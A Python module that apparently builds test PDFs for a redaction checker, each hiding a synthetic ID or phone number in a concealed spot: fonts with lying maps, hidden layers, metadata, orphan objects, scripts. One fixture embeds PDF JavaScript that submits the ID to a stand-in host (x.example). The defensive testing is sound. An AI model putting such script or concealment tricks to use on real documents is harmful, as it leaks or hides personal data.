"""Adversarial PDFs, built by code: each hides a synthetic identifier in one place of a file.

Each ``case_*`` function writes a PDF and returns an ``Attack``: the values that must not
survive in a redacted copy, the kinds of finding ``check`` must report, and whether the value
is visible only to OCR (then, without Tesseract, the file must be blocked instead).

Places (issue 11): marked-content and structure /ActualText, rotated text, letter-spaced
digits, a value split by a page break, JavaScript (open action, name tree, link, page action,
bookmark), named destinations (name tree and /Dests), page labels, layer names and layer
panel labels, forms and pictures never drawn, picture metadata (XMP, JPEG comment and EXIF),
page thumbnails, text in a tiling pattern and in a soft mask, link descriptions and link
appearances, free-text appearances, fonts whose maps lie (a ToUnicode map that sends digits to
other digits, a Type 3 font), application data, form fields without widgets, custom document
properties, unknown catalog and trailer keys, structure IDs, objects no page references, an
earlier revision, text outside the page, in a hidden layer, white on white, under a picture,
and scanned pages (an ID wrapped in a table cell, a name).
"""
from __future__ import annotations

import io
import re
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import pdf_fixtures as F
import pikepdf
from pikepdf import Array, Dictionary, Name, String

PROSE = "经研究，现将有关事项通知如下。各单位要高度重视，认真组织实施，确保各项措施落到实处。"


@dataclass
class Attack:
    values: list[str]                     # must be absent from the copy
    kinds: set[str]                       # check must report these kinds
    ocr: bool = False                     # only OCR sees the value: without Tesseract the file is blocked
    keep: list[str] = field(default_factory=list)   # text the copy must still hold
    drawn: bool = False                   # the value is shown on a page: OCR of the copy must not read it
    names: bool = False                   # check with the names detectors on


def _people(seed: int):
    s = F._synth(seed)
    return s, s.id18(), s.mobile()


def _base(path: Path, *lines: str, builder: F.PdfBuilder | None = None) -> Path:
    """A one-page notice (heading and prose) with ``lines`` below, saved to ``path``."""
    b = builder or F.PdfBuilder()
    if not b.pages:
        b.new_page()
    b.text(72, 790, "关于公示事项的通知", size=16)
    y = b.paragraph(72, 760, PROSE, 451)
    for line in lines:
        b.text(72, y, line)
        y -= 18
    return b.save(path)


def _edit(path: Path):
    return pikepdf.open(path, allow_overwriting_input=True)


def _helv(pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica,
                                        Encoding=Name.WinAnsiEncoding))


def _append(pdf, page, content: bytes, **resources) -> None:
    """Append a content stream to ``page``, adding ``resources`` ({category: {name: obj}})."""
    res = page.obj.Resources
    for cat, entries in resources.items():
        d = res.get("/" + cat)
        if d is None:
            d = res["/" + cat] = Dictionary()
        for k, v in entries.items():
            d["/" + k] = v
    page.contents_add(pikepdf.Stream(pdf, content), prepend=False)


def _png_of(text: str, size: int = 40) -> bytes:
    return F.text_image([text], width_px=900, size_px=size)


def _image(pdf, png: bytes) -> pikepdf.Stream:
    from PIL import Image

    im = Image.open(io.BytesIO(png)).convert("L")
    s = pikepdf.Stream(pdf, zlib.compress(im.tobytes()))
    s.Type, s.Subtype, s.Width, s.Height = Name.XObject, Name.Image, im.width, im.height
    s.ColorSpace, s.BitsPerComponent, s.Filter = Name.DeviceGray, 8, Name.FlateDecode
    return s


# --- marked content, structure ------------------------------------------------------------------
def case_actual_text_marked_content(path: Path) -> Attack:
    _, idn, _ = _people(301)
    _base(path)
    with _edit(path) as pdf:
        page = pdf.pages[0]
        _append(pdf, page, b"/Span << /ActualText %s >> BDC BT /FX 11 Tf 72 600 Td (see the list) Tj ET EMC"
                % String("申请人身份证号码" + idn).unparse(), Font={"FX": _helv(pdf)})
        pdf.save(path)
    return Attack([idn], {"id_card"}, keep=["see the list"])


def case_actual_text_in_structure(path: Path) -> Attack:
    _, _, mobile = _people(302)
    _base(path)
    with _edit(path) as pdf:
        elem = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, ActualText=String("联系电话" + mobile)))
        pdf.Root.StructTreeRoot = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=Array([elem])))
        pdf.Root.MarkInfo = Dictionary(Marked=True)
        pdf.save(path)
    return Attack([mobile], {"mobile"})


def case_structure_ids_and_attributes(path: Path) -> Attack:
    _, idn, mobile = _people(303)
    _base(path)
    with _edit(path) as pdf:
        elem = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Table, ID=String("申请人身份证号码" + idn),
                                            A=Dictionary(O=Name.Table, Summary=String("联系电话" + mobile))))
        pdf.Root.StructTreeRoot = pdf.make_indirect(Dictionary(
            Type=Name.StructTreeRoot, K=Array([elem]),
            IDTree=Dictionary(Names=Array([String("申请人身份证号码" + idn), elem]))))
        pdf.save(path)
    return Attack([idn, mobile], {"id_card", "mobile"})


# --- the glyphs themselves ---------------------------------------------------------------------
def case_rotated_90(path: Path) -> Attack:
    _, idn, _ = _people(304)
    b = F.PdfBuilder().new_page()
    b.text(540, 150, "申请人身份证号码" + idn, size=10, angle=90)
    _base(path, builder=b)
    return Attack([idn], {"id_card"}, keep=["关于公示事项的通知"], drawn=True)


def case_rotated_270(path: Path) -> Attack:
    _, _, mobile = _people(305)
    b = F.PdfBuilder().new_page()
    b.text(40, 600, "联系电话" + mobile, size=10, angle=270)
    _base(path, builder=b)
    return Attack([mobile], {"mobile"}, drawn=True)


def case_letter_spaced_id(path: Path) -> Attack:
    _, idn, _ = _people(306)
    b = F.PdfBuilder().new_page()
    x = 72 + b.text(72, 640, "身份证号码：")
    b.text(x, 640, idn, tc=5.5)
    _base(path, builder=b)
    return Attack([idn], {"id_card"}, drawn=True)


def case_letter_spaced_mobile(path: Path) -> Attack:
    _, _, mobile = _people(307)
    b = F.PdfBuilder().new_page()
    b.text(72, 640, "联系电话：" + mobile, tc=6.0)
    _base(path, builder=b)
    return Attack([mobile], {"mobile"}, drawn=True)


def case_split_by_page_break(path: Path) -> Attack:
    _, idn, mobile = _people(308)
    b = F.PdfBuilder()
    b.new_page()
    y = b.paragraph(72, 780, PROSE * 3, 451)
    width = b.width(PROSE[:40], 11)
    line = "经审核，申请人公民身份号码" + idn[:10]
    b.text(72 + width - b.width(line, 11), y, line)
    b.text(290, 40, "— 1 —", size=9)
    b.new_page()
    b.paragraph(72, 770, idn[10:] + "，联系电话" + mobile + "，符合救助条件。" + PROSE, 451)
    b.save(path)
    return Attack([idn, mobile], {"id_card", "mobile"}, drawn=True)


def _digit_font_pdf(path: Path, shown: str, label: str, remap: dict[str, str]) -> None:
    """``label`` + ``shown`` drawn in the embedded CJK font (digits too), with a ToUnicode map
    in which each digit glyph is said to be ``remap[digit]``."""
    b = F.PdfBuilder().new_page()
    b.text(72, 790, "关于公示事项的通知", size=16)
    b.paragraph(72, 760, PROSE, 451)
    b.save(path)
    with _edit(path) as pdf:
        chars = sorted(set(label + shown + "0123456789"))
        font, gid = b._identity_font(pdf, chars)
        cmap = font.ToUnicode.read_bytes().decode()
        for d, to in remap.items():
            cmap = cmap.replace(f"<{gid[ord(d)]:04X}> <{ord(d):04X}>", f"<{gid[ord(d)]:04X}> <{ord(to):04X}>")
        font.ToUnicode = pikepdf.Stream(pdf, cmap.encode())
        code = "".join("%04X" % gid[ord(ch)] for ch in label + shown).encode()
        _append(pdf, pdf.pages[0], b"BT /FLIE 14 Tf 72 600 Td <%s> Tj ET" % code, Font={"FLIE": font})
        pdf.save(path)


def case_tounicode_sends_digits_to_other_digits(path: Path) -> Attack:
    _, idn, _ = _people(309)
    shift = {d: str((int(d) + 3) % 10) for d in "0123456789"}
    _digit_font_pdf(path, idn, "身份证号码", shift)
    return Attack([idn], {"id_card"}, ocr=True, drawn=True)


def _type3_digits(pdf, names: dict[int, str], draw: dict[int, str]) -> pikepdf.Object:
    """A Type 3 font whose glyph for code c is named ``names[c]`` and draws the digit ``draw[c]``
    (a bitmap of it, as an image mask)."""
    from PIL import Image, ImageDraw, ImageFont

    font = ImageFont.truetype(F.cjk_font_path(), 48, index=0)
    procs = Dictionary()
    diffs = Array()
    codes = sorted(names)
    for c in codes:
        im = Image.new("1", (32, 48), 1)
        ImageDraw.Draw(im).text((2, -6), draw[c], fill=0, font=font)
        data = im.tobytes()
        proc = (b"600 0 0 0 600 800 d1 q 600 0 0 800 0 0 cm BI /W 32 /H 48 /IM true /BPC 1 ID "
                + data + b" EI Q")
        procs["/" + names[c]] = pikepdf.Stream(pdf, proc)
        diffs.append(c)
        diffs.append(Name("/" + names[c]))
    return pdf.make_indirect(Dictionary(
        Type=Name.Font, Subtype=Name.Type3, FontBBox=[0, 0, 600, 800], FontMatrix=[0.001, 0, 0, 0.001, 0, 0],
        CharProcs=procs, Encoding=Dictionary(Type=Name.Encoding, Differences=diffs),
        FirstChar=codes[0], LastChar=codes[-1], Widths=[600] * (codes[-1] - codes[0] + 1),
        Resources=Dictionary()))


_DIGIT_NAMES = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]


def case_type3_font_with_lying_names(path: Path) -> Attack:
    _, idn, _ = _people(310)
    _base(path)
    body = idn.replace("X", "0")
    with _edit(path) as pdf:
        # code '0'+d draws the digit d, but its glyph is named for (d + 1) % 10
        names = {48 + d: _DIGIT_NAMES[(d + 1) % 10] for d in range(10)}
        font = _type3_digits(pdf, names, {48 + d: str(d) for d in range(10)})
        _append(pdf, pdf.pages[0], b"BT /FX 11 Tf 72 620 Td (ID) Tj ET BT /T3 16 Tf 100 620 Td (%s) Tj ET"
                % body.encode(), Font={"T3": font, "FX": _helv(pdf)})
        pdf.save(path)
    return Attack([body], {"id_card"}, ocr=True, drawn=True)


def case_type3_font_with_private_names(path: Path) -> Attack:
    _, idn, _ = _people(311)
    _base(path)
    body = idn.replace("X", "0")
    with _edit(path) as pdf:
        names = {48 + d: f"g{d + 17}" for d in range(10)}
        font = _type3_digits(pdf, names, {48 + d: str(d) for d in range(10)})
        _append(pdf, pdf.pages[0], b"BT /FX 11 Tf 72 620 Td (ID) Tj ET BT /T3 16 Tf 100 620 Td (%s) Tj ET"
                % body.encode(), Font={"T3": font, "FX": _helv(pdf)})
        pdf.save(path)
    return Attack([body], {"id_card"}, ocr=True, drawn=True)


# --- scripts and actions ------------------------------------------------------------------------
def _js(code: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def case_javascript_open_action(path: Path) -> Attack:
    _, idn, _ = _people(312)
    _base(path)
    with _edit(path) as pdf:
        pdf.Root.OpenAction = _js(f"app.alert('申请人身份证号码：{idn}');")
        pdf.save(path)
    return Attack([idn], {"script", "id_card"})


def case_javascript_name_tree(path: Path) -> Attack:
    _, _, mobile = _people(313)
    _base(path)
    with _edit(path) as pdf:
        js = pikepdf.Stream(pdf, f"var 联系电话 = '{mobile}';".encode("utf-16"))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), Dictionary(
            S=Name.JavaScript, JS=js)])))
        pdf.save(path)
    return Attack([mobile], {"script", "mobile"})


def case_javascript_link(path: Path) -> Attack:
    _, idn, _ = _people(314)
    _base(path, "点击查看附件")
    with _edit(path) as pdf:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720],
                          A=_js(f"this.submitForm('https://x.example/?身份证={idn}');"))
        pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))
        pdf.save(path)
    return Attack([idn], {"script", "id_card"})


def case_javascript_page_action(path: Path) -> Attack:
    _, _, mobile = _people(315)
    _base(path)
    with _edit(path) as pdf:
        pdf.pages[0].obj.AA = Dictionary(O=_js(f"console.println('联系电话{mobile}');"))
        pdf.save(path)
    return Attack([mobile], {"script", "mobile"})


def case_bookmark_with_uri_action(path: Path) -> Attack:
    _, _, mobile = _people(316)
    _base(path)
    with _edit(path) as pdf:
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("联系我们", 0))
        item = pdf.Root.Outlines.First
        item.A = Dictionary(S=Name.URI, URI=String(f"tel:{mobile}"))
        pdf.save(path)
    return Attack([mobile], {"script", "mobile"}, keep=["关于公示事项的通知"])


# --- names, labels, layers --------------------------------------------------------------------
def case_named_destination(path: Path) -> Attack:
    _, idn, _ = _people(317)
    _base(path)
    with _edit(path) as pdf:
        page = pdf.pages[0].obj
        name = f"申请人身份证号码{idn}"
        pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([String(name), Array([page, Name.Fit])])))
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("申请材料", 0))
        pdf.Root.Outlines.First.Dest = String(name)
        pdf.save(path)
    return Attack([idn], {"id_card"})


def case_named_destination_dict(path: Path) -> Attack:
    _, _, mobile = _people(318)
    _base(path, "见第一页")
    with _edit(path) as pdf:
        page = pdf.pages[0].obj
        pdf.Root.Dests = Dictionary({f"/applicant-{mobile}": Array([page, Name.Fit])})
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720], Dest=Name(f"/applicant-{mobile}"))
        page.Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))
        pdf.save(path)
    return Attack([mobile], {"mobile"})


def case_page_label(path: Path) -> Attack:
    _, idn, _ = _people(319)
    _base(path)
    with _edit(path) as pdf:
        pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D, P=String(f"身份证号码{idn}-"))]))
        pdf.save(path)
    return Attack([idn], {"id_card"})


def _layer(pdf, name: str, order_label: str | None = None) -> pikepdf.Object:
    ocg = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String(name)))
    order = Array([String(order_label), ocg]) if order_label else Array([ocg])
    pdf.Root.OCProperties = Dictionary(OCGs=Array([ocg]), D=Dictionary(Order=order, ON=Array([ocg])))
    return ocg


def case_layer_name(path: Path) -> Attack:
    _, _, mobile = _people(320)
    _base(path)
    with _edit(path) as pdf:
        ocg = _layer(pdf, f"联系电话{mobile}")
        _append(pdf, pdf.pages[0], b"/OC /L1 BDC BT /FX 11 Tf 72 600 Td (layered note) Tj ET EMC",
                Font={"FX": _helv(pdf)}, Properties={"L1": ocg})
        pdf.save(path)
    return Attack([mobile], {"mobile"}, keep=["layered note"])


def case_layer_panel_label(path: Path) -> Attack:
    _, idn, _ = _people(321)
    _base(path)
    with _edit(path) as pdf:
        ocg = _layer(pdf, "批注层", order_label=f"申请人身份证号码{idn}")
        _append(pdf, pdf.pages[0], b"/OC /L1 BDC BT /FX 11 Tf 72 600 Td (layered note) Tj ET EMC",
                Font={"FX": _helv(pdf)}, Properties={"L1": ocg})
        pdf.save(path)
    return Attack([idn], {"id_card"})


def case_text_in_a_hidden_layer(path: Path) -> Attack:
    _, idn, _ = _people(322)
    _base(path)
    with _edit(path) as pdf:
        ocg = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("hidden")))
        pdf.Root.OCProperties = Dictionary(OCGs=Array([ocg]), D=Dictionary(OFF=Array([ocg])))
        _append(pdf, pdf.pages[0], b"/OC /L1 BDC BT /FX 11 Tf 72 600 Td (ID %s) Tj ET EMC" % idn.encode(),
                Font={"FX": _helv(pdf)}, Properties={"L1": ocg})
        pdf.save(path)
    return Attack([idn], {"id_card"})


# --- content no page shows ------------------------------------------------------------------------
def case_form_never_drawn(path: Path) -> Attack:
    _, idn, _ = _people(323)
    _base(path)
    with _edit(path) as pdf:
        form = pikepdf.Stream(pdf, b"BT /FX 11 Tf 72 500 Td (Applicant ID %s) Tj ET" % idn.encode())
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, [0, 0, 595, 842]
        form.Resources = Dictionary(Font=Dictionary(FX=_helv(pdf)))
        res = pdf.pages[0].obj.Resources
        if "/XObject" not in res:
            res.XObject = Dictionary()
        res.XObject.FmHidden = form
        pdf.save(path)
    return Attack([idn], {"unseen_content", "id_card"})


def case_picture_never_drawn(path: Path) -> Attack:
    _, idn, _ = _people(324)
    _base(path)
    with _edit(path) as pdf:
        res = pdf.pages[0].obj.Resources
        if "/XObject" not in res:
            res.XObject = Dictionary()
        res.XObject.ImHidden = _image(pdf, _png_of("身份证 " + idn))
        pdf.save(path)
    return Attack([idn], {"unseen_content"})


def case_page_thumbnail(path: Path) -> Attack:
    _, idn, _ = _people(325)
    _base(path)
    with _edit(path) as pdf:
        pdf.pages[0].obj.Thumb = _image(pdf, _png_of("身份证 " + idn, size=20))
        pdf.save(path)
    return Attack([idn], {"unseen_content"})


def case_text_in_tiling_pattern(path: Path) -> Attack:
    _, idn, _ = _people(326)
    _base(path)
    with _edit(path) as pdf:
        cell = pikepdf.Stream(pdf, b"BT /FX 6 Tf 0 2 Td (ID %s) Tj ET" % idn.encode())
        cell.Type, cell.PatternType, cell.PaintType, cell.TilingType = Name.Pattern, 1, 1, 1
        cell.BBox, cell.XStep, cell.YStep = [0, 0, 120, 10], 120, 10
        cell.Resources = Dictionary(Font=Dictionary(FX=_helv(pdf)))
        _append(pdf, pdf.pages[0], b"q /Pattern cs /P1 scn 72 400 300 60 re f Q", Pattern={"P1": cell})
        pdf.save(path)
    return Attack([idn], {"unseen_content", "id_card"})


def case_text_in_soft_mask(path: Path) -> Attack:
    _, _, mobile = _people(327)
    _base(path)
    with _edit(path) as pdf:
        group = pikepdf.Stream(pdf, b"BT /FX 20 Tf 1 g 72 420 Td (Tel %s) Tj ET" % mobile.encode())
        group.Type, group.Subtype, group.BBox = Name.XObject, Name.Form, [0, 0, 595, 842]
        group.Group = Dictionary(S=Name.Transparency, CS=Name.DeviceGray)
        group.Resources = Dictionary(Font=Dictionary(FX=_helv(pdf)))
        gs = Dictionary(Type=Name.ExtGState, SMask=Dictionary(Type=Name.Mask, S=Name.Luminosity, G=group))
        _append(pdf, pdf.pages[0], b"q /GS1 gs 0 0 1 rg 72 400 300 60 re f Q", ExtGState={"GS1": gs})
        pdf.save(path)
    return Attack([mobile], {"unseen_content", "mobile"})


def _add_orphan(path: Path, body: bytes) -> None:
    """Add an object nothing refers to (qpdf drops such objects when it writes a file, so it is
    spliced into the classic cross-reference table of a file written without object streams)."""
    data = path.read_bytes()
    xref = data.rindex(b"\nxref\n") + 1
    head, table = data[:xref], data[xref:]
    lines = table.split(b"\n")
    first, count = (int(x) for x in lines[1].split())
    entries = lines[2:2 + count]
    rest = b"\n".join(lines[2 + count:])
    num = first + count
    obj = b"%d 0 obj\n%s\nendobj\n" % (num, body)
    new_head = head + obj
    rest = re.sub(rb"/Size \d+", b"/Size %d" % (num + 1), rest, count=1)
    rest = re.sub(rb"startxref\s+\d+", b"startxref\n%d" % len(new_head), rest, count=1)
    entries.append(b"%010d 00000 n " % len(head))
    path.write_bytes(new_head + b"xref\n%d %d\n" % (first, count + 1) + b"\n".join(entries) + b"\n" + rest)


def case_object_no_page_references(path: Path) -> Attack:
    _, idn, _ = _people(328)
    _base(path)
    with _edit(path) as pdf:
        pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    _add_orphan(path, b"<< /Note %s >>" % String(f"申请人身份证号码{idn}").unparse())
    return Attack([idn], {"unseen_content", "id_card"})


def case_earlier_revision_script(path: Path) -> Attack:
    """Revision 1 runs a script naming an ID; revision 2 (an incremental update) removes it."""
    _, idn, _ = _people(329)
    _base(path)
    with _edit(path) as pdf:
        pdf.Root.OpenAction = _js(f"app.alert('身份证号码{idn}');")
        pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    data = path.read_bytes()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root = pdf.Root.objgen[0]
        catalog = Dictionary({k: v for k, v in pdf.Root.items() if k != "/OpenAction"}).unparse(resolved=False)
        size = int(pdf.trailer.Size)
    prev = int(data[data.rindex(b"startxref") + 9:].split()[0])
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    off = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (root, catalog)
    xref = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        root, off, size, root, prev, xref)
    path.write_bytes(bytes(out))
    return Attack([idn], {"previous_versions"})


# --- pictures' own metadata ----------------------------------------------------------------------
def case_picture_xmp(path: Path) -> Attack:
    _, idn, _ = _people(330)
    b = F.PdfBuilder().new_page()
    b.image(_png_of("县政府"), 72, 300, 300, 40)
    _base(path, builder=b)
    with _edit(path) as pdf:
        img = next(v for v in pdf.pages[0].obj.Resources.XObject.values() if v.get("/Subtype") == "/Image")
        img.Metadata = pikepdf.Stream(pdf, (
            '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            f'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description>身份证号码{idn}'
            '</dc:description></rdf:Description></rdf:RDF></x:xmpmeta>').encode())
        pdf.save(path)
    return Attack([idn], {"id_card"})


def case_jpeg_comment_and_exif(path: Path) -> Attack:
    from PIL import Image

    _, idn, mobile = _people(331)
    _base(path)
    im = Image.open(io.BytesIO(_png_of("县政府"))).convert("RGB")
    exif = Image.Exif()
    exif[0x010E] = f"ID {idn}"          # ImageDescription
    buf = io.BytesIO()
    im.save(buf, format="JPEG", quality=80, exif=exif.tobytes(), comment=f"tel {mobile}".encode())
    with _edit(path) as pdf:
        s = pikepdf.Stream(pdf, buf.getvalue())
        s.Type, s.Subtype, s.Width, s.Height = Name.XObject, Name.Image, im.width, im.height
        s.ColorSpace, s.BitsPerComponent, s.Filter = Name.DeviceRGB, 8, Name.DCTDecode
        _append(pdf, pdf.pages[0], b"q 300 0 0 40 72 300 cm /ImJ Do Q", XObject={"ImJ": s})
        pdf.save(path)
    return Attack([idn, mobile], {"id_card", "mobile"})


# --- annotations --------------------------------------------------------------------------------
def case_link_description(path: Path) -> Attack:
    _, _, mobile = _people(332)
    _base(path, "办事指南")
    with _edit(path) as pdf:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720],
                          Contents=String(f"经办人电话{mobile}"),
                          A=Dictionary(S=Name.URI, URI=String("https://www.example.gov.cn/guide")))
        pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))
        pdf.save(path)
    return Attack([mobile], {"mobile"})


def case_link_appearance(path: Path) -> Attack:
    _, idn, _ = _people(333)
    _base(path, "办事指南")
    with _edit(path) as pdf:
        ap = pikepdf.Stream(pdf, b"BT /FX 8 Tf 2 2 Td (ID %s) Tj ET" % idn.encode())
        ap.Type, ap.Subtype, ap.BBox = Name.XObject, Name.Form, [0, 0, 228, 20]
        ap.Resources = Dictionary(Font=Dictionary(FX=_helv(pdf)))
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720], AP=Dictionary(N=ap),
                          A=Dictionary(S=Name.URI, URI=String("https://www.example.gov.cn/guide")))
        pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))
        pdf.save(path)
    return Attack([idn], {"unseen_content", "id_card"}, drawn=True)


def case_free_text_appearance(path: Path) -> Attack:
    _, idn, _ = _people(334)
    _base(path)
    with _edit(path) as pdf:
        ap = pikepdf.Stream(pdf, b"BT /FX 9 Tf 2 4 Td (ID %s) Tj ET" % idn.encode())
        ap.Type, ap.Subtype, ap.BBox = Name.XObject, Name.Form, [0, 0, 200, 20]
        ap.Resources = Dictionary(Font=Dictionary(FX=_helv(pdf)))
        note = Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=[300, 500, 500, 520], AP=Dictionary(N=ap),
                          DA=String("/Helv 9 Tf 0 g"))
        pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(note)]))
        pdf.save(path)
    return Attack([idn], {"annotation", "id_card"})


def case_form_field_without_widget(path: Path) -> Attack:
    _, idn, _ = _people(335)
    _base(path)
    with _edit(path) as pdf:
        field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("applicant"), V=String(f"身份证号码{idn}")))
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
        pdf.save(path)
    return Attack([idn], {"id_card"})


# --- properties, application data, unknown keys --------------------------------------------------
def case_custom_document_property(path: Path) -> Attack:
    _, idn, _ = _people(336)
    _base(path)
    with _edit(path) as pdf:
        pdf.docinfo["/Applicant"] = f"身份证号码{idn}"
        pdf.save(path)
    return Attack([idn], {"id_card"})


def case_application_data(path: Path) -> Attack:
    _, _, mobile = _people(337)
    _base(path)
    with _edit(path) as pdf:
        pdf.Root.PieceInfo = Dictionary(Editor=Dictionary(Private=Dictionary(Owner=String(f"联系电话{mobile}"))))
        pdf.save(path)
    return Attack([mobile], {"metadata", "mobile"})


def case_unknown_catalog_and_trailer_keys(path: Path) -> Attack:
    _, idn, mobile = _people(338)
    _base(path)
    with _edit(path) as pdf:
        pdf.Root.XApplicant = String(f"申请人身份证号码{idn}")
        pdf.trailer.XNote = String(f"联系电话{mobile}")
        pdf.save(path)
    return Attack([idn, mobile], {"metadata", "id_card", "mobile"})


# --- text read like any other -------------------------------------------------------------------
def case_text_outside_the_page(path: Path) -> Attack:
    _, idn, _ = _people(339)
    b = F.PdfBuilder().new_page()
    b.text(-400, 600, "身份证号码" + idn)
    _base(path, builder=b)
    return Attack([idn], {"id_card"})


def case_white_text_under_a_picture(path: Path) -> Attack:
    _, idn, mobile = _people(340)
    _base(path)
    with _edit(path) as pdf:
        img = _image(pdf, _png_of("县政府"))
        _append(pdf, pdf.pages[0], b"BT 1 g /FX 11 Tf 72 620 Td (ID %s) Tj ET "
                                   b"BT 0 g /FX 11 Tf 72 560 Td (Tel %s) Tj ET q 300 0 0 40 70 552 cm /ImW Do Q"
                % (idn.encode(), mobile.encode()), Font={"FX": _helv(pdf)}, XObject={"ImW": img})
        pdf.save(path)
    return Attack([idn, mobile], {"id_card", "mobile"}, drawn=True)


# --- scanned pages ---------------------------------------------------------------------------------
def _scan(path: Path, png: bytes) -> None:
    from PIL import Image

    b = F.PdfBuilder().new_page()
    im = Image.open(io.BytesIO(png))
    w = F.A4[0] - 72
    h = w * im.height / im.width
    b.image(png, 36, F.A4[1] - 36 - h, w, h)
    b.save(path)


def case_scanned_id_wrapped_in_a_table_cell(path: Path) -> Attack:
    """A scanned list: the ID column is narrow, each ID runs over two lines of its cell."""
    from PIL import Image, ImageDraw, ImageFont

    s = F._synth(341)
    rows = [(s.name(), s.id18()) for _ in range(2)]
    size = 44
    font = ImageFont.truetype(F.cjk_font_path(), size, index=0)
    img = Image.new("L", (2000, 900), 255)
    d = ImageDraw.Draw(img)
    xs, ys = [100, 400, 860, 1500], [100, 220, 420, 620]
    for x in xs:
        d.line([(x, ys[0]), (x, ys[-1])], fill=0, width=4)
    for y in ys:
        d.line([(xs[0], y), (xs[-1], y)], fill=0, width=4)
    for x, head in zip(xs, ["姓名", "身份证号码", "备注"]):
        d.text((x + 20, ys[0] + 36), head, fill=0, font=font)
    for r, (name, idn) in enumerate(rows):
        top = ys[r + 1]
        d.text((xs[0] + 20, top + 70), name, fill=0, font=font)
        d.text((xs[1] + 20, top + 30), idn[:12], fill=0, font=font)
        d.text((xs[1] + 20, top + 110), idn[12:], fill=0, font=font)
        d.text((xs[2] + 20, top + 70), "已核实", fill=0, font=font)
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    _scan(path, buf.getvalue())
    return Attack([r[1] for r in rows], {"id_card", "ocr_page"}, ocr=True, drawn=True, keep=["已核实"])


def case_scanned_name(path: Path) -> Attack:
    s = F._synth(342)
    name, mobile = s.name(), s.mobile()
    _scan(path, F.text_image(["困难群众救助申请书", f"申请人：{name}", f"联系电话：{mobile}", "以上情况属实"]))
    return Attack([name, mobile], {"person", "mobile", "ocr_page"}, ocr=True, drawn=True, names=True,
                  keep=["以上情况属实"])


CASES = {name[len("case_"):]: fn for name, fn in sorted(globals().items()) if name.startswith("case_")}
